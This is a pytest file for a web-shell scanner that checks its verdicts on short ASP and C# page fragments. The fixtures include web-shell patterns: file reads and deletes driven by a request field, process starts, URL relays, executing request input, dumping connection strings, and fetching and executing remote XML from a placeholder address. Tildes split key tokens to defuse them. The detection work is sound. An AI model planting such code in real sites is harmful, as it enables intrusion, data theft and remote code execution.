"""Checks that hold, and checks that are merely there; pages that stand alone; objects that nobody explains. EXSWEEP-INERT-FIXTURE"""

import pytest

from exsweep.model.files import FileVerdict

from .pages import asp, csharp, ids, look, members

_READS = "Response.Write(System.IO.File.ReadAllText(f));"
_FIELD = 'string f=Req~uest["f"];'


@pytest.mark.parametrize(
    "check",
    [
        'if(f.StartsWith(Server.MapPath("~/d"))){}',
        'if(f.StartsWith(Server.MapPath("~/d")))Response.Write(1);',
        'if(!f.StartsWith(Server.MapPath("~/d")))Response.Write("no");',
        'var own=new[]{"a","b"};own.Contains(f);',
        'if(f.StartsWith("C:\\\\")){}',
        'bool ok=f.StartsWith(Server.MapPath("~/d"));',
        'if(true||f.StartsWith(Server.MapPath("~/d"))){}',
    ],
)
@pytest.mark.parametrize(
    "does",
    [
        _READS,
        "System.IO.File.Delete(f);",
        "foreach(var x in System.IO.Directory.GetFiles(f))Response.Write(x);",
    ],
)
def test_a_check_from_which_nothing_follows_clears_no_page(check: str, does: str) -> None:
    assert csharp(_FIELD + check + does).verdict is not FileVerdict.UNREMARKABLE


@pytest.mark.parametrize(
    "code",
    [
        'if(!f.StartsWith(Server.MapPath("~/d")))throw new Exception();' + _READS,
        'if(!f.StartsWith(Server.MapPath("~/d"))){Response.StatusCode=403;Response.End();}' + _READS,
        'if(f.StartsWith(Server.MapPath("~/d"))){' + _READS + "}",
        'var own=new[]{"a","b"};if(own.Contains(f)&&f!=""){' + _READS + "}",
    ],
)
def test_a_check_that_decides_what_is_done_counts(code: str) -> None:
    assert csharp(_FIELD + code).verdict is FileVerdict.UNREMARKABLE


def test_a_variable_that_is_given_another_value_after_its_check_is_not_checked() -> None:
    code = 'if(!f.StartsWith(Server.MapPath("~/d")))throw new Exception();f=Req~uest["g"];' + _READS
    assert csharp(_FIELD + code).verdict is not FileVerdict.UNREMARKABLE


@pytest.mark.parametrize("reads", ['Request["z"]==null?f:g', "g+f", 'string.Format("{0}{1}",g,f)'])
def test_what_was_checked_does_not_lend_its_check_to_what_was_not(reads: str) -> None:
    code = 'string g=Req~uest["g"];if(!f.StartsWith(Server.MapPath("~/d")))throw new Exception();'
    page = csharp(_FIELD + code + f"var h={reads};" + _READS.replace("(f)", "(h)"))
    assert page.verdict is not FileVerdict.UNREMARKABLE


_STARTS = 'System.Diagnostics.Pro~cess.Start("C:\\\\a.exe",f);'


@pytest.mark.parametrize(
    ("check", "held"),
    [
        (r'if(!Regex.IsMatch(f,"^\\d{7}$"))return;', True),
        (r'if(f==null||!Regex.IsMatch(f,@"^[0-9]{1,6}\z"))return;', True),
        (r'if(Regex.IsMatch(f,"^\\d{7}$"))Response.Write(1);', False),
        (r'if(!Regex.IsMatch(f,"^\\d{7}$"))Response.Write(1);', False),
        (r'if(!Regex.IsMatch(f,"^\\d{1,99}$"))return;', False),
        (r'if(!Regex.IsMatch(f,"^\\d+$"))return;', False),
        (r'if(!Regex.IsMatch(f,"\\d{7}$"))return;', False),
        (r'if(!Regex.IsMatch(f,"^\\w{7}$"))return;', False),
        (r'if(!Regex.IsMatch(f,"^\\d{7}$"))return;f=Req~uest["g"];', False),
    ],
)
def test_a_short_number_is_no_free_text_where_nothing_else_passes(check: str, held: bool) -> None:
    asks = any(each.from_request for each in csharp(_FIELD + check + _STARTS).capabilities)
    assert asks is not held


_RELAY = "Response.Write(new System.IO.StreamReader(System.Net.WebReq~uest.Create(f).GetResponse().GetResponseStream()).ReadToEnd());"


@pytest.mark.parametrize(
    "check",
    [
        'if(f.StartsWith("h")){}',
        'bool ok=f.StartsWith("http://192.0.2.1/");',
        'var own=new[]{"http","https"};foreach(var s in own)if(f.StartsWith(s)){',
        "bool ok=true;foreach(var s in Own.List)if(f.StartsWith(s))ok=true;if(!ok)return;",
        "bool ok=false;foreach(var s in Own.List)if(f.StartsWith(s))Response.Write(s);",
        "if(f.StartsWith(f.Substring(0,4))){",
    ],
)
def test_a_relay_does_not_hide_behind_a_check(check: str) -> None:
    assert csharp(_FIELD + check + _RELAY + "}" * check.endswith("{")).verdict is FileVerdict.SUSPICIOUS


@pytest.mark.parametrize(
    "check",
    [
        'if(!f.StartsWith("http://192.0.2.1/"))return;',
        'var own=new[]{"http://maps.example.test/","http://192.0.2.1/"};foreach(var s in own)if(f.StartsWith(s)){',
        "bool ok=false;foreach(var s in Own.List)if(f.StartsWith(s.Url))ok=true;if(!ok){Response.StatusCode=403;Response.End();}",
        "bool ok=false;foreach(var s in Own.List){if(f.StartsWith(s)){ok=true;break;}}if(ok){",
    ],
)
def test_a_relay_whose_list_decides_is_one_of_a_map_server(check: str) -> None:
    assert csharp(_FIELD + check + _RELAY + "}" * check.endswith("{")).verdict is FileVerdict.UNREMARKABLE


def test_a_relay_that_is_all_that_a_page_does_is_suspicious_and_one_that_belongs_to_a_site_is_not() -> None:
    relay = (
        'Set h = Server.CreateObject("Msxml2.ServerXMLHTTP"): h.open "GET", req~uest("u"), False: h.send\n'
        "Response.Write h.responseText"
    )
    assert asp(relay).verdict is FileVerdict.SUSPICIOUS
    inside = look(f'<!--#include file="head.inc"--><~%\n{relay}\n%~>', "page.asp")
    assert inside.verdict is FileVerdict.UNREMARKABLE


def test_a_constant_program_does_not_stand_alone() -> None:
    assert all(each.code != "alone" for each in asp('CreateObject("WScr~ipt.Sh~ell").Run "a.exe"').reasons)


def test_what_an_unexplained_object_is_told_is_shown() -> None:
    page = asp('set o = CreateObject("Some~body.Tool"): o.program = req~uest("x"): o.begin')
    assert "foreign-object" in ids(page)
    assert "foreign-object" not in ids(asp('set o = CreateObject("JMail.Message"): o.body = req~uest("x")'))


def test_a_declared_function_of_windows_counts_though_no_call_is_seen() -> None:
    page = members(
        '[DllImport("kernel32")]static extern System.IntPtr Virt~ualAlloc(System.IntPtr a,uint b,uint c,uint d);'
    )
    assert page.verdict is not FileVerdict.UNREMARKABLE


@pytest.mark.parametrize(
    "code",
    [
        "for each c in System.Configuration.ConfigurationManager.ConnectionStrings : Response.Write(c.ConnectionString) : next",
    ],
)
def test_secrets_that_are_shown_are_found(code: str) -> None:
    page = look(f'<~%@ Page Language="VB" %~>\n<~%\n{code.replace(" : ", chr(10))}\n%~>')
    assert "show-secrets" in ids(page)
    assert page.verdict is not FileVerdict.UNREMARKABLE


@pytest.mark.parametrize(
    "code",
    [
        'set b = createobject("System.Text.StringBuilder"): b.append_3 req~uest("x"): exec~ute b.tostring()',
        'set d = createobject("msxml2.domdocument"): d.async = false: d.load "http://192.0.2.1/b.xml": exec~ute d.text',
        'class c\npublic default property get v(a)\nexec~ute a\nend property\nend class\nz = (new c)(req~uest("x"))',
        'set c = createobject("CDO.Configuration"): c.fields("http://schemas.microsoft.com/cdo/configuration/smtpserver") = req~uest("h")',
    ],
)
def test_values_go_through_objects_of_com(code: str) -> None:
    assert asp(code).verdict is not FileVerdict.UNREMARKABLE
